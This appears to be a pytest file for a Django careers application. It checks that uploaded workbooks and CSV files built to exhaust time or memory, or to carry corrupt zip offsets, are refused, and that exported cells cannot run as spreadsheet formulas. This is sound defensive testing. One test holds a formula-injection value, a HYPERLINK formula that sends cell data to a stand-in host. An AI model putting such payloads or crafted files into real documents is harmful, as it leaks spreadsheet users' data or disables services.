"""Files made to take time or memory, to break what reads them, or to run in a spreadsheet."""

from __future__ import annotations

import csv
import tracemalloc
from collections.abc import Callable
from io import BytesIO
from zipfile import ZipFile

import pytest
from django.core.files.uploadedfile import TemporaryUploadedFile
from hypothesis import given
from hypothesis import strategies as st

from careers.levels import files
from careers.levels.cells import PASSED_OVER, as_written, safe_cell
from careers.levels.faults import FileFault
from careers.levels.files import lines_of
from careers.levels.sheets import csv_of
from tests.levels.files_made import MAIN, upload, workbook

UNREADABLE = (
    "The workbook cannot be read. "
    "Open it, save it again as .xlsx without a password, or save it as CSV UTF-8."
)
ROW = '<row><c t="str"><v>Ada</v></c></row>'
LONG = "x" * 1_200_000


def fault(content: bytes | str) -> str:
    """What ends the reading."""
    with pytest.raises(FileFault) as caught:
        list(lines_of(upload(content)))
    return caught.value.words


@pytest.mark.parametrize(
    "content",
    [
        workbook(ROW + f"<!--{LONG}-->"),
        workbook(ROW + f'<x y="{LONG}"/>'),
        workbook(ROW, parts={"xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"><{LONG}/></sst>'}),
    ],
    ids=["comment", "attribute", "tag"],
)
def test_what_would_be_read_again_and_again_is_refused(
    content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("careers.levels.workbooks.MOST_TIMES", 100_000)
    assert fault(content) == UNREADABLE


def test_many_small_tokens_are_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("careers.levels.workbooks.MOST_TIMES", 100_000)
    content = workbook(f"<!--{LONG[:900_000]}-->{'<x/>' * 300_000}{LONG}{ROW}")
    assert list(lines_of(upload(content))) == [(1, ("Ada",), ())]


def with_a_directory_too_far_on(content: bytes) -> bytes:
    """The entries then seem to begin before the file."""
    said = int.from_bytes(content[-6:-2], "little")
    return content[:-6] + (said + 1_000).to_bytes(4, "little") + content[-2:]


def with_entries_too_far_on(content: bytes) -> bytes:
    file = BytesIO(content)
    with ZipFile(file, "a") as archive:
        for entry in archive.infolist():
            entry.header_offset = 2**63 - 1_000
        archive.writestr("more", "")
    return file.getvalue()


@pytest.mark.parametrize("spoil", [with_a_directory_too_far_on, with_entries_too_far_on])
def test_places_that_no_file_has(spoil: Callable[[bytes], bytes]) -> None:
    """A file on disk tells of them otherwise than one in memory."""
    content = spoil(workbook(ROW))
    with TemporaryUploadedFile("people.xlsx", "", len(content), None) as file:
        file.write(content)
        with pytest.raises(FileFault) as caught:
            list(lines_of(file))
    assert caught.value.words == UNREADABLE
    assert fault(content) == UNREADABLE


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("," * 2_000_000, "Row 2: It has more than 1000000 characters."),
        ('"\n",' * 500_000, "Row 2: It has more than 1000000 characters."),
        ("," * 900_000, "It has more than 200 columns."),
    ],
    ids=["one line", "many lines", "cells"],
)
def test_a_row_of_commas_takes_little_memory(line: str, words: str) -> None:
    file = upload(f"a\n{line}\n")
    tracemalloc.start()
    try:
        (told,) = list(lines_of(file))[-1].faults
    except FileFault as refused:
        told = refused.words
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert told == words
    assert peak < 14_000_000


def test_each_row_may_be_long() -> None:
    row = ",".join(['"' + "x\n" * 4_000 + '"'] * 100)
    assert [line.number for line in lines_of(upload(f"{row}\n{row}\n"))] == [1, 2]


def test_empty_rows_have_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "LAST_ROW", 50)
    assert len(list(lines_of(upload("a" + "\n" * 49 + "b")))) == 2
    words = "The file has more than 50 rows. Split it into several files."
    assert fault("a" + "\n" * 51) == words


SIGNS = "=+-@＝＋－＠"
TEXTS = st.text(st.sampled_from(f"ab{PASSED_OVER}{SIGNS};;;\t\r\n"), max_size=12)


@given(TEXTS)
def test_no_part_of_a_cell_is_a_formula(text: str) -> None:
    """To a spreadsheet that parts cells by semicolons, tabs and lines, whatever is quoted."""
    cell = safe_cell(text)
    parts = cell.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")
    runs = [part.lstrip(PASSED_OVER)[:1] in [*SIGNS] and part[0] != "'" for part in parts]
    assert not any(runs)
    assert as_written(cell) == text


def test_a_formula_after_a_semicolon_is_text_elsewhere() -> None:
    name = 'Analyst;=HYPERLINK("http://x.example/"&A1)\n-2;3 - 1'
    content = csv_of([("a", name)]).decode("utf-8-sig")
    assert content == ('a,"Analyst;\'=HYPERLINK(""http://x.example/""&A1)\n\'-2;3 - 1"\r\n')
    assert next(csv.reader(content.splitlines(), delimiter=";"))[1][:6] == "'=HYPE"
    assert list(lines_of(upload("a,b\r\n" + content)))[1] == (2, ("a", name), ())
